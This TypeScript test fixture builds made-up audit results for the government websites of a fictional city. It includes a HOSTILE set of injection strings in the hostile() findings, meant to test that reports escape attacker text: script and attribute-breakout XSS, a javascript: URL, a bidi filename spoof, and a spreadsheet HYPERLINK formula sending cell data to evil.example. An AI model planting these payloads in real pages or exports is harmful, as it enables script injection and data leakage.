import type { Day, Instant, Json, Url } from '../../../src/domain/brand.ts';
import type { Finding, Tally } from '../../../src/domain/finding.ts';
import { messageOf, wordsOf } from '../../../src/domain/message.ts';
import type { Indicator, Rule, SiteLevel } from '../../../src/domain/rule.ts';
import type { ColumnRow, FinishedRun, SiteReport } from '../../../src/domain/run.ts';
import type { IndicatorScore, ItemScore, Rate, Score } from '../../../src/domain/score.ts';
import type { City, Site } from '../../../src/domain/site.ts';
import type { Target } from '../../../src/domain/target.ts';
import { samplePack } from './sample-pack.ts';

/** Texts that an attacker would put into a title, in every place where a text of a site can appear. */
export const HOSTILE = {
  script: '</script><script>alert(1)</script><img src=x onerror=alert(2)>',
  attribute: '" onmouseover="alert(3)" x="',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  bidi: '正常\u202e gpj.exe\u202c\u0000\u0007\ufeff标题',
  address: 'javascript:alert(4)',
} as const;

export interface SampleOptions {
  readonly sites?: number;
  /** Broken links on the first site (a long list); on the others a few. */
  readonly longList?: number;
  readonly findingsPerSite?: number;
  readonly columnsPerSite?: number;
  readonly lang?: 'zh' | 'en';
  readonly hostile?: boolean;
}

const AS_OF = '2026-11-23' as Day;
const GROUPS = [
  { id: 'linshui', name: '临水县', code: '990121' },
  { id: '云岭', name: '云岭县' },
  { id: 'hedong', name: '河东区', code: '990102' },
];
const NAMES: readonly (readonly [name: string, level: SiteLevel, group?: number])[] = [
  ['清湖市人民政府门户网站', 'city'],
  ['清湖市教育局', 'department'],
  ['清湖市卫生健康委员会', 'department'],
  ['清湖市供销合作社', 'department'],
  ['临水县人民政府', 'county', 0],
  ['临水县农业农村局', 'county-department', 0],
  ['临水县白石镇人民政府', 'township', 0],
  ['云岭县人民政府', 'county', 1],
  ['云岭县青山乡人民政府', 'township', 1],
  ['河东区人民政府', 'county', 2],
  ['河东区住房和城乡建设局', 'county-department', 2],
  ['河东区柳林街道办事处', 'township', 2],
];

/** A made-up city with realistic findings; deterministic, and as large as asked for. */
export function sampleRun(options: SampleOptions = {}): FinishedRun {
  const sites = sitesOf(options.sites ?? NAMES.length);
  const city: City = { id: 'qinghu', name: '清湖市', code: '990100', groups: GROUPS, sites };
  const reports = sites.map(reportOf);
  const perSite = sites.map((site, i) => findingsOf(site, i, options));
  const findings = perSite.flat();
  const tallies = sites.flatMap((site, i) =>
    talliesOf(site, perSite[i] ?? [], reports[i]?.state !== 'unreached'),
  );
  const scored = sites.map((site) => scoreOf(site, tallies));
  const rates = ratesOf(sites, tallies);
  const cityFinding: Finding = {
    indicator: '26.ipv6',
    rule: 'ipv6-support-rate',
    outcome: 'failed',
    severity: 'error',
    target: { type: 'city', name: '清湖市' },
    message: '全市 IPv6 支持率未超过 90%。',
    facts: { rate: 'ipv6-support' },
    pages: 0,
    fingerprint: 'c1c1c1c1c1c1c1c1',
  };
  return {
    manifest: {
      schema: 1,
      run: '2026-11-23T02-00-00',
      tool: { name: 'gov-site-audit', version: '0.1.0' },
      pack: samplePack.digest,
      seeds: 'a'.repeat(64),
      asOf: AS_OF,
      lang: 'zh',
      start: '2026-11-22T18:00:12.000Z' as Instant,
      end: '2026-11-22T20:41:57.000Z' as Instant,
      state: 'finished',
      notes: ['时间预算用完，云岭县青山乡人民政府 只检查了 61 个页面'],
      checked: ['ipv6', 'accessibility', 'columns', 'links'],
      vantage: {
        ipv4: true,
        ipv6: true,
        ipv6Because: '',
        resolvers: ['[2001:db8::53]:53', '192.0.2.53:53'],
        browser: 'Chromium 142.0',
        chineseFont: true,
      },
      city,
      sites: reports,
    },
    findings: [...findings, cityFinding],
    tallies,
    scores: {
      schema: 1,
      asOf: AS_OF,
      city: { id: city.id, name: city.name, rates, ...mean(scored) },
      groups: [
        {
          id: 'city',
          name: city.name,
          rates: ratesOf(
            sites.filter((s) => !s.group),
            tallies,
          ),
          ...mean(scored.filter((_, i) => !sites[i]?.group)),
        },
        ...GROUPS.map((group) => ({
          id: group.id,
          name: group.name,
          rates: ratesOf(
            sites.filter((s) => s.group === group.id),
            tallies,
          ),
          ...mean(scored.filter((_, i) => sites[i]?.group === group.id)),
        })),
      ],
      sites: sites.map((site, i) => ({
        id: site.id,
        name: site.name,
        ...(scored[i] ?? { items: {}, total: NOTHING }),
        national: { vetoes: vetoesOf(perSite[i] ?? []) },
      })),
    },
    columns: sites.flatMap((site, i) => columnsOf(site, i, options)),
    pack: samplePack,
    lang: options.lang ?? 'zh',
    ledger: {
      firstSeen: new Map(findings.slice(0, 20).map((f) => [f.fingerprint, '2026-10-30' as Day])),
      entries: new Map(),
      absent: [],
    },
  };
}

function sitesOf(count: number): readonly Site[] {
  return Array.from({ length: count }, (_, i): Site => {
    const [name, level, group] = NAMES[i % NAMES.length] ?? ['', 'city'];
    const round = Math.floor(i / NAMES.length);
    const groupId = group === undefined ? undefined : GROUPS[group]?.id;
    return {
      id: `s${String(i + 1).padStart(3, '0')}`,
      name: round === 0 ? name : `${name}（${round + 1}）`,
      url: `http://s${i + 1}.qinghu.example.gov.cn/` as Url,
      level,
      ...(groupId === undefined ? {} : { group: groupId }),
      owner: i % 3 === 0 ? '市政府办公室' : '信息中心',
      siteCode: `99010000${String((i % 90) + 10)}`,
      alsoHosts: [],
      columns: [],
      apps: [],
      maxPages: 2000,
    };
  });
}

function reportOf(site: Site, i: number): SiteReport {
  const unreached = i === 3;
  const partial = i === 8;
  return {
    id: site.id,
    state: unreached ? 'unreached' : partial ? 'partial' : 'done',
    why: unreached ? '首页连续 3 次打不开（连接超时）' : partial ? '时间预算用完' : '',
    pages: unreached
      ? { known: 1, fetched: 0, rendered: 0, skipped: { timeout: 1 } }
      : {
          known: 900 + i,
          fetched: 860 + i,
          rendered: 24,
          skipped: i % 4 === 0 ? { blocked: 37, robots: 3 } : {},
        },
    requests: 2400 + i * 17,
    bytes: 41_000_000 + i * 1_234_567,
    tookMs: 840_000 + i * 9_000,
  };
}

function findingsOf(site: Site, i: number, options: SampleOptions): readonly Finding[] {
  if (i === 3) return [notTested(site, '27.links', 'broken-link', 'timeout')];
  const made: Finding[] = [];
  const links = i === 0 ? (options.longList ?? 4) : (options.findingsPerSite ?? 2);
  for (let n = 0; n < links; n += 1) made.push(brokenLink(site, n, n === 0 ? 1204 : 1 + (n % 5)));
  if (i % 3 === 0) made.push(sharedLink(site));
  if (i % 5 === 0) made.push(brokenImage(site));
  if (i % 2 === 0) made.push(staleColumn(site, '部门动态', 'news', '2026-10-02', 52, 14));
  if (i % 4 === 1) made.push(staleColumn(site, '政策解读', 'interpretation', '2026-01-20', 307, 182));
  if (i % 4 === 2) made.push(blankColumn(site));
  made.push(dueSoon(site), nameless(site, i), suspect(site));
  if (i % 3 === 1) made.push(contrast(site), captcha(site));
  if (i === 5 || i === 1) made.push(ipv6Missing(site));
  if (i === 6) made.push(ipv6Unreachable(site));
  if (i === 9) made.push(undecidedIpv6(site));
  if (i === 7) made.push(contradiction(site));
  made.push(notTested(site, '27.marks', 'footer-mark-missing', ''), inapplicable(site));
  if (options.hostile !== false && i === 0) made.push(...hostile(site));
  return made;
}

function make(
  site: Site,
  rule: string,
  target: Target,
  facts: { readonly [key: string]: Json },
  more: Partial<Finding> = {},
): Finding {
  const found = ruleOf(rule);
  const base = {
    indicator: found.indicator,
    rule,
    outcome: found.otherwise,
    severity: found.severity,
    site: site.id,
    target,
    facts,
    pages: target.type === 'link' ? target.count : 1,
    ...more,
  };
  return {
    ...base,
    message: more.message ?? messageOf(found, base, { lang: 'zh', words: wordsOf(samplePack) }),
    fingerprint: digest(`${rule}|${site.id}|${JSON.stringify(target)}`),
  };
}

function brokenLink(site: Site, n: number, count: number): Finding {
  const url =
    n === 0
      ? `http://zwdt.qinghu.example.gov.cn/${site.id}/`
      : `${site.url}xxgk/2024/t2024${String(n).padStart(4, '0')}_51${n}.shtml`;
  const from = Array.from({ length: Math.min(20, count) }, (_, k) => `${site.url}zwgk/page_${k + 1}.shtml`);
  const reason = n === 0 ? 'dns-missing' : 'http-404';
  return make(
    site,
    'broken-link',
    { type: 'link', url, from, count },
    {
      role: 'page',
      verdict: 'broken',
      reason,
      status: n === 0 ? null : 404,
      final: url,
      internal: n !== 0,
      via: 'a',
      text: n === 0 ? '市政务服务大厅' : `关于做好第 ${n} 批工作的通知`,
      tries: [
        {
          at: '2026-11-22T18:20:05.000Z',
          status: n === 0 ? null : 404,
          why: n === 0 ? 'dns-missing' : null,
          final: url,
          detail: '',
        },
        {
          at: '2026-11-22T18:41:09.000Z',
          status: n === 0 ? null : 404,
          why: n === 0 ? 'dns-missing' : null,
          final: url,
          detail: '',
        },
      ],
    },
  );
}

function sharedLink(site: Site): Finding {
  return make(
    site,
    'broken-link',
    { type: 'link', url: 'https://zwfw.qinghu.example.gov.cn/old/index.html', from: [site.url], count: 640 },
    {
      role: 'page',
      verdict: 'broken',
      reason: 'http-410',
      status: 410,
      via: 'a',
      text: '政务服务网',
      tries: [],
    },
  );
}

function brokenImage(site: Site): Finding {
  return make(
    site,
    'broken-image',
    { type: 'link', url: `${site.url}images/banner.png`, from: [site.url], count: 12 },
    {
      role: 'image',
      verdict: 'broken',
      reason: 'html-instead',
      status: 200,
      via: 'img',
      text: '',
      tries: [],
    },
  );
}

function staleColumn(
  site: Site,
  name: string,
  cls: string,
  latest: string,
  ageDays: number,
  limitDays: number,
): Finding {
  return make(
    site,
    'stale-column',
    { type: 'column', name, url: `${site.url}${cls}/` },
    {
      class: cls,
      latest,
      latestTitle: '市农业农村局开展秋收督查',
      latestUrl: `${site.url}${cls}/t20261002_5012345.shtml`,
      ageDays,
      limitDays,
      items: 20,
      datedItems: 20,
      overdue: true,
    },
  );
}

function blankColumn(site: Site): Finding {
  return make(
    site,
    'blank-column',
    { type: 'column', name: '公共资源配置', url: `${site.url}xxgk/ggzy/` },
    { class: null, items: 0, remark: '暂无数据' },
  );
}

function dueSoon(site: Site): Finding {
  return make(
    site,
    'due-soon-column',
    { type: 'column', name: '乡镇动态', url: `${site.url}xzdt/` },
    { class: 'news', latest: '2026-11-11', ageDays: 12, limitDays: 14, dueInDays: 2 },
  );
}

function nameless(site: Site, i: number): Finding {
  return make(
    site,
    i % 2 === 0 ? 'control-without-name' : 'link-without-name',
    {
      type: 'element',
      url: site.url,
      selector: '#search > form > input.keyword:nth-child(2)',
      html: '<input class="keyword" type="text" name="kw" value="请输入关键字">',
    },
    {
      engineRule: 'label',
      wcag: ['1.3.1', '4.1.2'],
      act: ['e086e5'],
      grade: 'failure',
      impact: 'critical',
      template: '页头',
      samplePages: [site.url, `${site.url}zwgk/`, `${site.url}xxgk/`, `${site.url}hdjl/`, `${site.url}zwfw/`],
      pages: 24,
      places: 24,
      summary: '表单控件需要标签',
    },
    { pages: 24 },
  );
}

function contrast(site: Site): Finding {
  return make(
    site,
    'wcag-color-contrast',
    {
      type: 'element',
      url: site.url,
      selector: '.nav > li:nth-child(3) > a',
      html: '<a href="/zwgk/" style="color:#9ab">政务公开</a>',
    },
    {
      engineRule: 'color-contrast',
      grade: 'failure',
      impact: 'serious',
      wcag: ['1.4.3'],
      samplePages: [site.url],
    },
    { pages: 18 },
  );
}

function captcha(site: Site): Finding {
  return make(
    site,
    'captcha-without-alternative',
    {
      type: 'element',
      url: `${site.url}hdjl/`,
      selector: '#captcha',
      html: '<img id="captcha" src="/code.jsp">',
    },
    { grade: 'review', why: 'blocked' },
    { outcome: 'cantTell', severity: 'note' },
  );
}

function suspect(site: Site): Finding {
  return make(
    site,
    'suspect-link',
    { type: 'link', url: 'https://www.partner.example/notice', from: [site.url], count: 3 },
    {
      reason: 'tries-differ',
      verdict: 'suspect',
      role: 'page',
      via: 'a',
      text: '友情链接',
      tries: [
        {
          at: '2026-11-22T18:20:05.000Z',
          status: null,
          why: 'timeout',
          final: '',
          detail: 'connect timeout 10 s',
        },
        { at: '2026-11-22T18:41:05.000Z', status: 503, why: null, final: '', detail: '' },
      ],
    },
  );
}

function ipv6Missing(site: Site): Finding {
  return make(
    site,
    'ipv6-address-missing',
    { type: 'site', url: site.url, name: site.name },
    { host: new URL(site.url).host, a: ['203.0.113.9'], aaaa: [], count: 0 },
  );
}

function ipv6Unreachable(site: Site): Finding {
  return make(
    site,
    'ipv6-unreachable',
    { type: 'site', url: site.url, name: site.name },
    {
      host: new URL(site.url).host,
      detail: '连接 2001:db8::80 超时',
      addresses: [
        {
          address: '2001:db8::80',
          ok: false,
          status: null,
          why: 'timeout',
          detail: '10 s',
          sizeBytes: 0,
          tookMs: 10_004,
        },
      ],
    },
  );
}

function undecidedIpv6(site: Site): Finding {
  return make(
    site,
    'ipv6-unreachable',
    { type: 'site', url: site.url, name: site.name },
    { why: 'no-ipv6-path', detail: '' },
    { outcome: 'cantTell', severity: 'warning', message: '检查点没有 IPv6 网络，不能判断。' },
  );
}

function contradiction(site: Site): Finding {
  return make(
    site,
    'date-contradiction',
    { type: 'page', url: `${site.url}zwgk/t20250714_100.shtml` },
    { shown: '2026-07-14', pubDate: '2025-07-14', differenceDays: 365 },
  );
}

function notTested(site: Site, indicator: string, rule: string, why: string): Finding {
  return make(
    site,
    rule,
    { type: 'site', url: site.url, name: site.name },
    why === '' ? { count: 0 } : { count: 0, why },
    { indicator, outcome: 'untested', severity: 'note', message: '未检查', pages: 0 },
  );
}

function inapplicable(site: Site): Finding {
  return make(
    site,
    'floating-window',
    { type: 'site', url: site.url, name: site.name },
    { count: 24 },
    { outcome: 'inapplicable', severity: 'note', message: '没有飘窗', pages: 0 },
  );
}

function hostile(site: Site): readonly Finding[] {
  return [
    make(
      site,
      'stale-column',
      { type: 'column', name: HOSTILE.script, url: `${site.url}evil/` },
      {
        class: 'news',
        latest: '2026-01-01',
        latestTitle: HOSTILE.bidi,
        latestUrl: HOSTILE.address,
        ageDays: 326,
        limitDays: 14,
      },
    ),
    make(
      site,
      'link-without-name',
      {
        type: 'element',
        url: `${site.url}"><script>alert(5)</script>`,
        selector: HOSTILE.attribute,
        html: HOSTILE.script,
      },
      { engineRule: HOSTILE.script, samplePages: [HOSTILE.address, `${site.url}ok.html`] },
    ),
    make(
      site,
      'hijacked-link',
      { type: 'link', url: HOSTILE.address, from: [HOSTILE.address, `${site.url}a b"c`], count: 2 },
      { text: HOSTILE.formula, reason: HOSTILE.attribute, [HOSTILE.script]: HOSTILE.bidi },
    ),
    make(
      site,
      'blank-column',
      { type: 'column', name: HOSTILE.formula, url: `http://user:pw@evil.example/` },
      { remark: HOSTILE.formula },
      { message: HOSTILE.formula },
    ),
  ];
}

function columnsOf(site: Site, i: number, options: SampleOptions): readonly ColumnRow[] {
  if (i === 3) return [];
  const base = {
    site: site.id,
    latestTitle: '市农业农村局开展秋收督查',
    latestUrl: `${site.url}t20261002.shtml`,
    why: null,
  };
  const rows: ColumnRow[] = [
    {
      ...base,
      name: '部门动态',
      url: `${site.url}news/`,
      class: 'news',
      latest: '2026-10-02' as Day,
      ageDays: 52,
      limitDays: 14,
      dueInDays: -38,
      outcome: 'failed',
    },
    {
      ...base,
      name: '乡镇动态',
      url: `${site.url}xzdt/`,
      class: 'news',
      latest: '2026-11-11' as Day,
      ageDays: 12,
      limitDays: 14,
      dueInDays: 2,
      outcome: 'passed',
      rhythm: [3, 0, 5, 2, 1, 0],
    },
    {
      ...base,
      name: '政策解读',
      url: `${site.url}jd/`,
      class: 'interpretation',
      latest: '2026-07-20' as Day,
      ageDays: 126,
      limitDays: 183,
      dueInDays: 57,
      outcome: 'passed',
    },
    {
      ...base,
      name: '通知公告',
      url: `${site.url}tzgg/`,
      class: 'notice',
      latest: '2026-11-20' as Day,
      ageDays: 3,
      limitDays: 181,
      dueInDays: 178,
      outcome: 'passed',
    },
    {
      ...base,
      name: '公共资源配置',
      url: `${site.url}ggzy/`,
      class: null,
      latest: null,
      latestTitle: null,
      latestUrl: null,
      ageDays: null,
      limitDays: null,
      dueInDays: null,
      outcome: 'failed',
      why: '没有任何内容',
    },
    {
      ...base,
      name: '政策文件',
      url: `${site.url}zcwj/`,
      class: 'policy',
      latest: null,
      latestTitle: null,
      latestUrl: null,
      ageDays: null,
      limitDays: 181,
      dueInDays: null,
      outcome: 'cantTell',
      why: 'no-browser',
    },
    {
      ...base,
      name: '脱贫攻坚（已归档）',
      url: `${site.url}tpgj/`,
      class: 'topic',
      latest: '2021-02-26' as Day,
      ageDays: 2096,
      limitDays: null,
      dueInDays: null,
      outcome: 'inapplicable',
    },
  ];
  const more = Array.from(
    { length: options.columnsPerSite ?? 0 },
    (_, n): ColumnRow => ({
      ...base,
      name: `乡镇公开目录 ${n + 1}`,
      url: `${site.url}c${n}/`,
      class: 'notice',
      latest: '2026-08-01' as Day,
      ageDays: 114,
      limitDays: 181,
      dueInDays: 67 + (n % 40),
      outcome: 'passed',
    }),
  );
  return [...rows, ...more];
}

function talliesOf(site: Site, findings: readonly Finding[], reached: boolean): readonly Tally[] {
  return samplePack.indicators.flatMap((indicator) =>
    indicator.rules.map((rule): Tally => {
      const own = findings.filter((f) => f.rule === rule.id);
      const count = (outcome: string): number => own.filter((f) => f.outcome === outcome).length;
      const bare = count('failed') + count('cantTell') + count('inapplicable') + count('untested') === 0;
      return {
        site: site.id,
        rule: rule.id,
        passed: bare && reached ? 12 : reached && rule.indicator === '27.columns' ? 40 : 0,
        failed: count('failed'),
        cantTell: count('cantTell'),
        inapplicable: count('inapplicable') * 24,
        untested: reached ? count('untested') : 1,
      };
    }),
  );
}

const NOTHING: Score = { score: null, low: null, high: null, judged: 0, total: 0 };

function scoreOf(site: Site, all: readonly Tally[]): { items: { [item: string]: ItemScore }; total: Score } {
  const tallies = new Map(all.filter((t) => t.site === site.id).map((t) => [t.rule, t]));
  const items: { [item: string]: ItemScore } = {};
  for (const item of samplePack.items) {
    const indicators = samplePack.indicators
      .filter((one) => one.item === item.id)
      .map((one) => indicatorScore(one, tallies));
    items[String(item.id)] = { ...combine(indicators), indicators };
  }
  return {
    items,
    total: combine(
      samplePack.items.map((item) => ({ ...(items[String(item.id)] ?? NOTHING), weight: item.weight })),
    ),
  };
}

function indicatorScore(indicator: Indicator, tallies: ReadonlyMap<string, Tally>): IndicatorScore {
  const own = indicator.rules.flatMap((rule) => tallies.get(rule.id) ?? []);
  const sum = (value: (t: Tally) => number): number => own.reduce((total, t) => total + value(t), 0);
  const judged = sum((t) => t.passed + t.failed);
  const base = { id: indicator.id, weight: indicator.weight };
  if (indicator.kind === 'marks' || judged === 0)
    return { ...base, ...NOTHING, low: 0, high: 100, state: 'not-checked' };
  const failedRules = own.filter((t) => t.failed > 0).length;
  const open = own.filter((t) => t.cantTell > 0).length;
  const score = Math.max(0, 100 - failedRules * 12.35);
  return {
    ...base,
    score,
    low: Math.max(0, score - (indicator.kind === 'ipv6' ? open * 9 : 0)),
    high: score,
    judged,
    total: judged + sum((t) => t.cantTell + t.untested),
    state: 'judged',
  };
}

function combine(parts: readonly (Score & { readonly weight: number })[]): Score {
  const scored = parts.filter((part) => part.score !== null);
  const weight = scored.reduce((sum, part) => sum + part.weight, 0);
  if (weight === 0) return NOTHING;
  const of = (value: (part: Score) => number): number =>
    Math.floor((scored.reduce((sum, part) => sum + part.weight * value(part), 0) / weight) * 100) / 100;
  return {
    score: of((p) => p.score ?? 0),
    low: of((p) => p.low ?? 0),
    high: of((p) => p.high ?? 0),
    judged: scored.reduce((s, p) => s + p.judged, 0),
    total: scored.reduce((s, p) => s + p.total, 0),
  };
}

function mean(
  scored: readonly { readonly items: { readonly [item: string]: ItemScore }; readonly total: Score }[],
): { items: { [item: string]: ItemScore }; total: Score } {
  const even = (scores: readonly Score[]): Score => combine(scores.map((score) => ({ ...score, weight: 1 })));
  const items: { [item: string]: ItemScore } = {};
  for (const item of samplePack.items)
    items[String(item.id)] = {
      ...even(scored.flatMap((one) => one.items[String(item.id)] ?? [])),
      indicators: [],
    };
  return { items, total: even(scored.map((one) => one.total)) };
}

function ratesOf(sites: readonly Site[], all: readonly Tally[]): { [rate: string]: Rate } {
  const bySite = Map.groupBy(all, (t) => t.site);
  return Object.fromEntries(
    samplePack.rates.map((definition): [string, Rate] => {
      const counted = sites.filter((site) => definition.levels.includes(site.level));
      const states = counted.map((site) => {
        const own = (bySite.get(site.id) ?? []).filter((t) => definition.rules.includes(t.rule));
        if (own.some((t) => t.failed > 0)) return 'failed';
        return own.some((t) => t.untested > 0 || t.cantTell > 0) ? 'unknown' : 'passed';
      });
      const count = (state: string): number => states.filter((one) => one === state).length;
      return [definition.id, rateOf(count('passed'), count('failed'), count('unknown'), definition.target)];
    }),
  );
}

/** A rate from its counts, with verdict, as the scores carry it. */
export function rateOf(
  passed: number,
  failed: number,
  unknown: number,
  target: { readonly is: '>' | '>=' | '='; readonly share: number } | undefined,
): Rate {
  const all = passed + failed + unknown;
  const meets = (n: number): boolean => {
    if (target === undefined || all === 0) return false;
    return target.is === '>' ? n * 1000 > target.share * 1000 * all : n * 1000 >= target.share * 1000 * all;
  };
  const verdict =
    target === undefined || all === 0
      ? 'cantTell'
      : meets(passed)
        ? 'passed'
        : meets(passed + unknown)
          ? 'cantTell'
          : 'failed';
  return {
    passed,
    failed,
    unknown,
    low: all === 0 ? null : passed / all,
    high: all === 0 ? null : (passed + unknown) / all,
    ...(target === undefined ? {} : { target: `${target.is} ${target.share}` }),
    verdict,
  };
}

function vetoesOf(
  findings: readonly Finding[],
): readonly { id: string; outcome: 'passed' | 'failed'; because: string }[] {
  const stale = findings.filter((f) => f.rule === 'stale-column').length;
  return [
    { id: 'stale-columns', outcome: stale >= 5 ? 'failed' : 'passed', because: `${stale}/5` },
    { id: 'overdue-columns', outcome: 'passed', because: `${stale}/10` },
    { id: 'blank-columns', outcome: 'passed', because: '0/5' },
    { id: 'stale-home-page', outcome: 'passed', because: '0/1' },
  ];
}

function ruleOf(id: string): Rule {
  const found = samplePack.indicators.flatMap((one) => one.rules).find((rule) => rule.id === id);
  if (!found) throw new Error(`the sample pack has no rule ${id}`);
  return found;
}

function digest(text: string): string {
  let hash = 0xcbf29ce484222325n;
  for (let i = 0; i < text.length; i += 1)
    hash = ((hash ^ BigInt(text.charCodeAt(i))) * 0x100000001b3n) & 0xffffffffffffffffn;
  return hash.toString(16).padStart(16, '0');
}
